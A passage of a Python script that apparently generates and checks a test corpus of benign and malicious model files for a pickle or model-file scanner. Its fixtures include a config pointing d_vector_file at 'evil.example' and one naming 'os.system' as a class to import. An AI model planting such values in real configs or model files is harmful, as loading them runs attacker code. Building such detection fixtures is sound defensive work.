           lambda c: c.update(d_vector_file="https://evil.example/speakers.pth"),
           "d_vector_file", "URL in d_vector_file", "URL")
    badcfg("config_characters_class_os_system.json",
           lambda c: c["characters"].update(characters_class="os.system"),
           "characters.characters_class", "characters_class naming os.system", "import string not on the profile's list")


def torchscript_bytes():
    import linecache
    src = ("import torch\n"
           "class Tiny(torch.nn.Module):\n"
           "    def __init__(self):\n"
           "        super().__init__()\n"
           "        self.w = torch.nn.Parameter(torch.ones(2))\n"
           "    def forward(self, x):\n"
           "        return x * self.w\n")
    fn = "tiny_module.py"
    linecache.cache[fn] = (len(src), None, src.splitlines(True), fn)
    mod = types.ModuleType("tiny_module")
    mod.__file__ = fn
    sys.modules["tiny_module"] = mod
    exec(compile(src, fn, "exec"), mod.__dict__)
    m = torch.jit.script(mod.Tiny())
    b = io.BytesIO()
    torch.jit.save(m, b)
    return b.getvalue()


# --------------------------------------------------------------------------
# Checks


def check_malicious():
    for e, blob, pstart in CHECKS:
        entries = [e] + list(e.get("also", []))
        for x in entries:
            off, opname = x.get("offset"), x.get("opcode")
            if off is None or opname is None:
                continue
            ops, err = genops_all(blob[pstart:])
            ops = [(pos + pstart, n, arg) for pos, n, arg in ops]
            at = {pos: (n, arg) for pos, n, arg in ops}
            if opname == "FRAME":
                assert blob[off] == 0x95, e["file"]
                continue
            if off not in at and opname == "GLOBAL" and err is not None:
                # pickletools decodes GLOBAL names as ASCII and stops here (non-ASCII or
                # invalid UTF-8 name): check the opcode's bytes directly.
                assert blob[off:off + 1] == b"c", e["file"]
                m, q, _ = blob[off + 1:].split(b"\n", 2)
                if x.get("global") is not None:
                    assert (m + b"." + q).decode("utf-8") == x["global"], e["file"]
                continue
            assert off in at, (e["file"], off, ops[:20], err)
            n, arg = at[off]
            assert n == opname, (e["file"], off, n, opname)
            gl = x.get("global")
            if n in ("GLOBAL", "INST") and gl is not None:
                m, q = arg.split(" ", 1)
                assert f"{m}.{q}" == gl, (e["file"], arg, gl)
            if n == "STACK_GLOBAL" and gl is not None:
                strs = [a for pos, nn, a in ops if pos < off and nn in ("SHORT_BINUNICODE", "BINUNICODE")]
                assert f"{strs[-2]}.{strs[-1]}" == gl, (e["file"], strs[-2:], gl)


def check_benign(root):
    for rel, loader, ref in BENIGN_LOADS:
        got = loader(os.path.join(root, rel))
        if ref is None or got is None:
            continue
        assert eq(ref, got), rel


def check_7z(root):
    if shutil.which("7z") is None:
        print("note: 7z not installed; 7z archives not cross-checked", file=sys.stderr)
        return
    for rel in ("malicious/sevenzip_pickle.7z", "malicious/sevenzip_torch_zip.7z", "benign/bundle.7z"):
        subprocess.run(["7z", "t", os.path.join(root, rel)], check=True, capture_output=True)


def check_zip_members(root):
    """Members named in expected.json exist, and hold the checked bytes, in the
    zips Python's zipfile can read."""
    for e, blob, _ in CHECKS:
        if e["format"] != "zip" or "member" not in e or "!" in e["member"]:
            continue
        try:
            z = zipfile.ZipFile(os.path.join(root, e["file"]))
            data = z.read(e["member"])  # the last of duplicate names
        except (zipfile.BadZipFile, RuntimeError, NotImplementedError):
            continue  # anomalies Python refuses: checked by construction
        if e["offset"] is not None:
            assert data == blob, e["file"]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", default=os.path.join(HERE, "corpus"))
    ap.add_argument("--force", action="store_true", help="replace an existing corpus")
    a = ap.parse_args()
    out = os.path.abspath(a.out)
    if os.path.exists(out) and not a.force:
        sys.exit(f"{out} exists; use --force to replace it")
    torch.manual_seed(0)
    torch.set_num_threads(1)
    parent = os.path.dirname(out)
    os.makedirs(parent, exist_ok=True)
    tmp = tempfile.mkdtemp(prefix=".corpus-", dir=parent)
    try:
        w = Writer(tmp)
        gen_benign(w)
        gen_malicious(w)
        names = [e["file"] for e in EXPECTED]
        assert len(names) == len(set(names))
        with open(os.path.join(tmp, "expected.json"), "w") as f:
            json.dump(EXPECTED, f, indent=1, ensure_ascii=False)
            f.write("\n")
        check_benign(tmp)
        check_malicious()
        check_zip_members(tmp)
        check_7z(tmp)
        os.chmod(tmp, 0o755)
        if os.path.exists(out):
            old = out + ".old"
            os.rename(out, old)
            os.rename(tmp, out)
            shutil.rmtree(old)
        else:
            os.rename(tmp, out)
    except BaseException:
        shutil.rmtree(tmp, ignore_errors=True)
        raise
    total = 0
    for dp, _, fs in os.walk(out):
        for f in fs:
            total += os.path.getsize(os.path.join(dp, f))
    h = hashlib.sha256()
    for dp, dns, fs in sorted(os.walk(out)):
        dns.sort()
        for f in sorted(fs):
            p = os.path.join(dp, f)
            h.update(os.path.relpath(p, out).encode() + b"\0" + open(p, "rb").read())
    print(f"wrote {len(EXPECTED)} files, {total} bytes, to {out}; tree sha256 {h.hexdigest()}")


if __name__ == "__main__":
    main()
